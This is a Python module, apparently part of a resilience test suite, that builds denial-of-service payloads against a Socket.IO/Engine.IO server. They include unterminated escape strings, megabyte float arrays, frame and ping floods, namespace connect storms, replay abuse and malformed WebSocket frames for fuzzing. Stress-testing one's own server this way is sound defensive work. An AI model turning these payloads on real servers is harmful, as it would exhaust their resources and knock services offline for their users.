"""Attacks by single packets that cost much to read, over WebSockets and by polling, and by many that cost little each."""

import time
from collections.abc import Callable, Iterator

from websockets.frames import Opcode

from hostile.attack import Attack, Context, many
from hostile.wire import Closed, frame

_LIMIT_BYTES = 980_000  # Engine.IO's limit of a message is 1,000,000
_EVENT_BYTES = 120_000  # below the least limit of an event
# Numbers at the ends of what a double holds, read with big integers: one of 24 bytes, and the slowest for its size.
_SLOW_FLOAT = "2.2250738585072014e-308"
_SHORT_FLOAT = "9e307"
_REFUSED_COUNT = 300
_MANY_BYTES = 65_536


def unfinished_string(escapes_count: int) -> str:
    """Return an event whose string of escapes never ends, two bytes for each, below 40 brackets."""
    return '42["x",' + "[" * 40 + '"' + '\\"' * escapes_count


def floats(tail: str, *, number: str = _SLOW_FLOAT, size_bytes: int = _LIMIT_BYTES) -> str:
    """Return numbers as a list without its beginning, and ``tail``."""
    return f"{number}," * (size_bytes // (len(number) + 1)) + tail


def refused(start: str, end: str) -> str:
    """Return a packet of 1 MB that holds text between ``start`` and ``end``."""
    return start + "a" * _LIMIT_BYTES + end


def sent(packet: str, *, joins: bool = True, times: int | None = None) -> Callable[[Context], None]:
    """Send a packet, wait until the server has got past it, again; ``times`` None: until the time is up."""
    data = frame(packet)

    def attack(context: Context) -> None:
        left = times if times is not None else 1 << 60

        def act(context: Context) -> None:
            nonlocal left
            websocket = context.websocket(joins=joins)
            try:
                while left:
                    left -= 1
                    context.counts["packets"] += 1
                    websocket.send(data)
                    websocket.send(frame(b"?", Opcode.PING))
                    while not websocket.read(0.5):  # an answer or the pong, or the end
                        pass
                    websocket.received.clear()
            finally:
                websocket.close()
            context.stay()

        context.repeat(act)

    return attack


def posted(packet: str, *, joins: bool = True, polls: bool = True, times: int | None = None) -> Callable[[Context], None]:
    """Do the same by polling. ``polls``: the packet is answered, and the answer taken."""

    def attack(context: Context) -> None:
        left = times if times is not None else 1 << 60

        def act(context: Context) -> None:
            nonlocal left
            polling = context.polling(joins=joins)
            try:
                while left:
                    left -= 1
                    context.counts["packets"] += 1
                    polling.post(packet)
                    if polls:
                        polling.poll()
            finally:
                polling.close()
            context.stay()

        context.repeat(act)

    return attack


def flooded(data: bytes, *, begins: bytes = b"", count: int = 1, joins: bool = True) -> Callable[[Context], None]:
    """Send the same frames for ever on ``count`` WebSockets, after ``begins``."""

    def script() -> Iterator[bytes | float]:
        if begins:
            yield begins
        yield from many(data)()

    return lambda context: context.flood(count, lambda context: context.websocket(joins=joins), script)


def replay(context: Context) -> None:
    """Be replayed 500 messages on another namespace again and again, with one's own pid."""

    def act(context: Context) -> None:
        websocket = context.websocket()
        pid = websocket.connected.get("pid")
        if pid is None:
            raise Closed("no recovery here")
        for _ in range(5):
            writer = context.websocket()
            writer.send(b"".join(frame(f'42{n}["message",{{"message":"{"x" * 100}"}}]') for n in range(100)))
            writer.wait_for("4399[")
            writer.close()
        packet = (frame(f'40/rooms,{{"pid":"{pid}","offset":"0"}}') + frame("41/rooms,")) * 6
        try:
            while True:
                websocket.send(packet)
                websocket.read(0.01)
                context.counts["replays"] += websocket.received.count(b'40/rooms,{"sid"')
                websocket.received.clear()
        finally:
            websocket.close()

    context.repeat(act)
    context.expect_at_most(context.counts["replays"], "replays of 500 messages")


def connect_everywhere(context: Context) -> None:
    """Enter and leave every namespace, and ones that are not there, as fast as it goes."""
    names = ("/rooms", "/typing", "/stats", "/llm", "/nowhere", f"/{'n' * 200}")
    packets = b"".join(frame(f"40{name},") + frame(f"41{name},") for name in names) + frame("41") + frame("40")
    context.flood(4, lambda context: context.websocket(), many(packets * 50))


def several_posts(packet: str, count: int, *, joins: bool, polls: bool) -> Callable[[Context], None]:
    return posted("\x1e".join([packet] * count), joins=joins, polls=polls)


def fuzz(context: Context) -> None:
    """Break the protocol of WebSockets and of Socket.IO in turn, on 8 lines, as fast as the server closes them."""
    broken = (
        b"\x81\x02hi",  # not masked
        b"\xc1\x82\0\0\0\0hi",  # a reserved bit
        b"\x83\x80\0\0\0\0",  # no opcode
        b"\x80\x80\0\0\0\0",  # continues nothing
        b"\x81\x82\0\0\0\0\xff\xff",  # not UTF-8
        b"\x88\x81\0\0\0\0\x03",  # half a code
        b"\x89\xfe\x01\0" + bytes(260),  # a ping too long
        b"\x82\xff" + b"\x7f" + bytes(11),  # 2**62 bytes
        frame("x"),
        frame("4x"),
        frame("42{}"),
        frame('42["message",'),
        frame("44{}"),
        frame("41{}"),
        frame('42["m\\nessage",NaN]') * 5,
    )
    started_s = time.monotonic()

    def act(context: Context) -> None:
        number = context.counts["fuzzed"] = context.counts["fuzzed"] + 1
        websocket = context.websocket(joins=number % 2 == 0)
        try:
            websocket.send(broken[number % len(broken)])
            websocket.stay(time.monotonic() + 0.05)
        finally:
            websocket.close()

    context.repeat(act, threads=8)
    context.counts["fuzzed_per_s"] = round(context.counts["fuzzed"] / (time.monotonic() - started_s))


_DEPTHS = (("30k", 15_000), ("64k", 32_000), ("1m", 490_000))
_NAN_AUTH = refused('40{"user_name":"', '","x":NaN}')
_REFUSED = {
    "nan": refused('42["x","', '",NaN]'),
    "depth": refused('42["x","', '",' + "[" * 40 + "]" * 40 + "]"),
    "surrogate": refused('42["x","', '\\ud800"]'),
}

ATTACKS = (
    *(Attack(f"string-{name}", "1", f"escapes that never end, {name}", sent(unfinished_string(n))) for name, n in _DEPTHS),
    Attack("string-unconnected", "1", "30 KB of the same before CONNECT", sent(unfinished_string(15_000), joins=False)),
    Attack("string-connect", "1+", "30 KB of the same as CONNECT's auth", sent("40" + unfinished_string(15_000)[2:])),
    Attack("string-polling", "1+", "30 KB of the same by polling", posted(unfinished_string(15_000))),
    Attack("string-polling-64k", "1+", "64 KB of the same by polling", posted(unfinished_string(32_000))),
    Attack("post-pongs", "3", "POSTs of 60,000 pongs", several_posts("3", 60_000, joins=True, polls=False)),
    Attack(
        "post-packets",
        "3",
        "POSTs of 60,000 events before CONNECT",
        several_posts('42["x"]', 60_000, joins=False, polls=False),
    ),
    Attack("post-events", "3", "POSTs of 60,000 events", several_posts('42["typing"]', 60_000, joins=True, polls=True)),
    Attack("floats", "5", "1 MB of floats in an event, NaN at its end", sent('42["x",[' + floats("NaN]]"))),
    Attack("floats-unconnected", "5", "the same before CONNECT", sent('42["x",[' + floats("NaN]]"), joins=False)),
    Attack("floats-ack", "5+", "the same in an acknowledgement", sent("431[" + floats("NaN]"))),
    Attack("floats-auth", "5+", "the same in CONNECT's auth", sent('40{"x":[' + floats("NaN]}"), joins=False)),
    Attack("floats-broken", "5+", "the same without its end", sent('42["x",[' + floats("1"))),
    Attack(
        "floats-short",
        "5+",
        "1 MB of 9e307, the slowest that msgspec reads, valid JSON",
        sent('42["x",[' + floats("1]]", number=_SHORT_FLOAT)),
    ),
    Attack(
        "floats-120k",
        "5+",
        "120 KB of the same as a message",
        sent('42["message",{"message":[' + floats("1]}]", number=_SHORT_FLOAT, size_bytes=_EVENT_BYTES)),
    ),
    Attack("floats-polling", "5+", "the same by polling", posted('42["x",[' + floats("NaN]]"))),
    Attack(
        "empty-frames",
        "6",
        "empty continuation frames, 64 KB at a time",
        flooded(b"\0\x80abcd" * (_MANY_BYTES // 6), begins=frame("4", fin=False)),
    ),
    Attack("pings", "6+", "empty pings, 64 KB at a time", flooded(b"\x89\x80abcd" * (_MANY_BYTES // 6))),
    Attack("noops", "6+", "Engine.IO noops, 64 KB at a time", flooded(frame("6") * (_MANY_BYTES // 7), joins=False)),
    Attack("acks", "6+", "acknowledgements of nothing", flooded(frame("431[]") * (_MANY_BYTES // 11))),
    Attack("replay", "7", "CONNECT with one's own pid and offset 0, DISCONNECT, again", replay),
    Attack("connects", "7+", "CONNECT and DISCONNECT of every namespace", connect_everywhere),
    *(
        Attack(
            f"refused-{name}", "9", f"{_REFUSED_COUNT} refused events of 1 MB ({name})", sent(packet, times=_REFUSED_COUNT)
        )
        for name, packet in _REFUSED.items()
    ),
    Attack(
        "refused-auth",
        "9",
        "300 CONNECTs of 1 MB with NaN",
        sent(_NAN_AUTH, joins=False, times=_REFUSED_COUNT),
    ),
    Attack(
        "refused-rate",
        "9",
        "events of 1 MB, soon over the rate",
        flooded(frame(refused('42["x","', '"]')), count=2),
    ),
    Attack(
        "refused-polling",
        "9+",
        "300 refused events of 1 MB by polling (nan)",
        posted(_REFUSED["nan"], times=_REFUSED_COUNT),
    ),
    Attack("fuzz", "14", "8 lines that break the protocols", fuzz),
)
